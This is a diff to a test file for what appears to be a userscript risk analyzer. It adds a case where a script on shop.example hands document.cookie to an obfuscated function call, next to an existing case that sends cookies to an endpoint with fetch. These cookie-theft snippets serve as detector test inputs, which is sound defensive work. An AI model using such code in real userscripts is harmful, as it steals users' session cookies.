@@ -10,6 +10,11 @@ describe("capability-pair", () => {
 			userscript(["match https://shop.example/*"], `fetch(window.settings.endpoint+"?c="+document.cookie)`),
 		],
 		[
+			"cookies for a function that nobody knows",
+			["medium 5"],
+			userscript(["match https://shop.example/*"], `window[unfold(1)](document.cookie)`),
+		],
+		[
 			"cookies in a request whose answer is used",
 			["medium 5"],
 			userscript(
